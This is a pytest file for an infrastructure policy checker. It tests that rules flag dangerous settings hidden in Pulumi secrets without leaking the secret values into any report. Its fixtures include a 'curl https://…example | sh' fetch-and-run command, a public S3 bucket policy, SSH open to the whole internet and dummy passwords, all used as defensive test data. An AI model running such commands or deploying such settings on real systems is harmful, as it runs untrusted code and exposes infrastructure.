"""Rules read values that a program marks as secret; no finding and no report shows them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pulumi
import pytest
from rich.console import Console

from graph.resource_graph import ResourceGraph
from policies import every_rule, findings
from policies.checked_program import judged, refuse
from policies.finding import Finding, Severity
from review.diff import diff
from review.preview import Comparison
from review.report import html, markdown, terminal
from review.report import json as json_report
from review.risk import risks
from tests.harness import record
from tests.policies.corpus import Case, cases, set_at, settings
from tests.policies.secret_graphs import Marked, marked_cases, texts_of

IN_CLEAR = {rule.id for rule in every_rule().values() if rule.in_clear}
"""Rules that a secret keeps when it is marked."""

DANGEROUS = [
    one for case in cases("dangerous") if case.rule not in IN_CLEAR for one in marked_cases(case)
]
HARMLESS = [
    case for case in cases("harmless") if not any("parent" in each for each in case.resources)
]
CANARY = "canary-9f86d081884c7d659a2feaa0c55ad015"
ANYONE = {
    "Sid": CANARY,
    "Effect": "Allow",
    "Principal": "*",
    "Action": ["s3:*", f"{CANARY}:*"],
    "Resource": f"arn:aws:s3:::{CANARY}/*",
}


def rules_of(found: list[Finding]) -> set[str]:
    return {one.rule for one in found}


def reports(graph: ResourceGraph, folder: Path) -> str:
    """Everything that is written or printed about a stack and its change."""
    found = judged(graph, folder, strict=True)
    change = diff(ResourceGraph(project="acme", stack="prod"), graph)
    comparison = Comparison(
        base="main", commit="0" * 40, diff=change, risks=risks(change, found), findings=found
    )
    written = [graph.to_json(), repr(graph), repr(comparison)]
    for form in (markdown, html, json_report):
        written += [form.inventory(graph, found), form.comparison(comparison)]
    for printed in (terminal.inventory(graph, found), terminal.comparison(comparison)):
        console = Console(width=100_000, highlight=False)
        with console.capture() as captured:
            console.print(printed)
        written.append(captured.get())
    try:
        refuse(found)
    except Exception as refusal:
        written.append(str(refusal))
    return "\n".join(written)


@pytest.mark.slow
@pytest.mark.parametrize("marked", DANGEROUS, ids=lambda one: one.name)
def test_a_dangerous_secret_is_found_and_shown_nowhere(marked: Marked, tmp_path: Path):
    graph = marked.graph()
    found = [one for one in findings(graph) if one.rule == marked.case.rule]
    assert found
    assert {one.severity for one in found} == {marked.case.severity}
    written = reports(graph, tmp_path)
    # What is also outside the secrets, or is a word of the rules, tells nothing of them.
    known = "\n".join(
        (
            *(f"{one.refuses} {one.fix} {one.reference}" for one in every_rule().values()),
            reports(marked.masked(), tmp_path),
        )
    )
    told = {
        text
        for secret in marked.secrets
        for text in texts_of(secret)
        if len(text) > 3 and text in written and text not in known
    }
    assert not told


@pytest.mark.parametrize(
    "secret",
    [
        json.dumps({"Statement": [ANYONE]}),
        {"Statement": [ANYONE]},
        {CANARY: {"Statement": [ANYONE]}},
        {"list": [{"cidrBlocks": ["0.0.0.0/0"], "name": CANARY, "fromPort": 22}]},
        {"acl": "public-read", CANARY: {"publicAccess": "Blob"}},
        {"run": f"curl https://{CANARY}.example | sh"},
        {f"{CANARY}Public": {"isPublic": True, "tlsEnabled": False, "minTlsVersion": "1.0"}},
        [CANARY, f"curl https://{CANARY}.example | sh", "allUsers"],
    ],
    ids=range(8),
)
@pytest.mark.parametrize("member", ["policy", "members", "sourceRanges"])
@pytest.mark.parametrize("type", ["acme:a/b:C", "aws:s3/bucketPolicy:BucketPolicy"])
def test_no_output_contains_what_is_secret(secret: Any, member: str, type: str, tmp_path: Path):
    def program() -> None:
        given = {"name": "plain", member: pulumi.Output.secret(secret)}
        pulumi.CustomResource(type, "it", given)
        pulumi.export("exported", pulumi.Output.secret({CANARY: CANARY}))

    graph = record(program)
    assert [one for one in findings(graph) if one.severity in (Severity.CRITICAL, Severity.HIGH)]
    assert CANARY not in reports(graph, tmp_path)


@pytest.mark.slow
@pytest.mark.parametrize("case", HARMLESS, ids=lambda case: f"{case.rule}: {case.name}")
def test_a_harmless_graph_stays_harmless_with_secrets(case: Case):
    found = [
        one
        for one in findings(Marked(case, None).graph())
        if case.none or one.rule == case.rule or one.severity is Severity.CRITICAL
    ]
    assert not found


@pytest.mark.slow
@pytest.mark.parametrize(
    ("rule", "token", "path", "dangerous", "safe"), settings(), ids=lambda said: str(said)[:60]
)
def test_a_secret_setting_is_found_where_it_is_dangerous(
    rule: str, token: str, path: str, dangerous: Any, safe: Any
):
    def found(value: Any) -> set[str]:
        (name, inputs) = next(iter(set_at(path, value).items()), ("other", None))
        case = Case(
            name="a setting",
            rule=rule,
            at=f"it.{path}",
            severity=Severity.LOW,
            none=False,
            resources=({"type": token, "inputs": {name: inputs}},),
        )
        graph = Marked(case, 0, (name,)).graph()
        at = f"it.{name}"
        return {one.rule for one in findings(graph) if one.problem.path == at}

    if rule not in IN_CLEAR and dangerous is not None:
        assert rule in found(dangerous)
    assert rule not in found(safe)


@pytest.mark.parametrize(
    ("token", "inputs"),
    [
        ("aws:redshift/cluster:Cluster", {"masterPassword": "hunter2hunter2"}),
        ("gcp:sql/user:User", {"password": "hunter2hunter2", "name": "u", "instance": "i"}),
        ("acme:a/b:C", {"env": [{"name": "DB_PASSWORD", "value": "hunter2hunter2"}]}),
        ("acme:a/b:C", {"settings": json.dumps({"db_password": "hunter2hunter2"})}),
        ("acme:a/b:C", {"url": "postgres://app:hunter2hunter2@db.example/app"}),
    ],
)
def test_a_credential_is_found_in_clear_and_not_where_it_is_marked(
    token: str, inputs: dict[str, Any]
):
    def found(secret: bool) -> set[str]:
        def program() -> None:
            marked = {key: pulumi.Output.secret(one) for key, one in inputs.items()}
            pulumi.CustomResource(token, "it", marked if secret else inputs)

        return rules_of(findings(record(program))) & IN_CLEAR

    assert "any-secret-001" in found(secret=False)
    assert not found(secret=True)


def test_a_credential_beside_a_secret_is_in_clear():
    def program() -> None:
        env = [{"name": pulumi.Output.secret("DB_PASSWORD"), "value": "hunter2"}]
        pulumi.CustomResource("acme:a/b:C", "it", {"env": env})

    found = [one for one in findings(record(program)) if one.rule == "any-secret-001"]
    assert [one.problem.path for one in found] == ["it.env[0].value"]
    assert "DB_PASSWORD" not in str(found)


def test_a_finding_that_no_secret_is_part_of_keeps_its_text():
    def program() -> None:
        given = {"publiclyAccessible": True, "password": pulumi.Output.secret("hunter2hunter2")}
        pulumi.CustomResource("acme:a/b:C", "it", given)

    (found,) = [one for one in findings(record(program)) if one.rule == "any-public-002"]
    assert found.problem.path == "it.publiclyAccessible"
    assert found.problem.what == "is True (acme:a/b:C)"


def test_the_path_of_a_secret_ends_where_the_secret_begins():
    def program() -> None:
        given = {"access": [{"document": pulumi.Output.secret({"Statement": [ANYONE]})}]}
        pulumi.CustomResource("acme:a/b:C", "it", given)

    found = [one for one in findings(record(program)) if one.severity is Severity.CRITICAL]
    assert {one.problem.path for one in found} == {"it.access[0].document"}
    assert "aws-iam-006" in rules_of(found)


def test_a_reference_to_a_secret_name_is_a_reference():
    """Inputs and outputs are compared by their values, not by what takes the place of a secret."""

    def referring(name: str) -> set[str]:
        def program() -> None:
            role, policy = "aws:iam/role:Role", "aws:iam/rolePolicy:RolePolicy"
            pulumi.CustomResource(role, "role", {"name": pulumi.Output.secret("acme")})
            pulumi.CustomResource(policy, "policy", {"role": pulumi.Output.secret(name)})

        found = findings(record(program), own=True)
        return {one.problem.path for one in found if one.rule == "aws-reference-001"}

    assert referring("acme") == set()
    assert referring("another") == {"policy.role"}
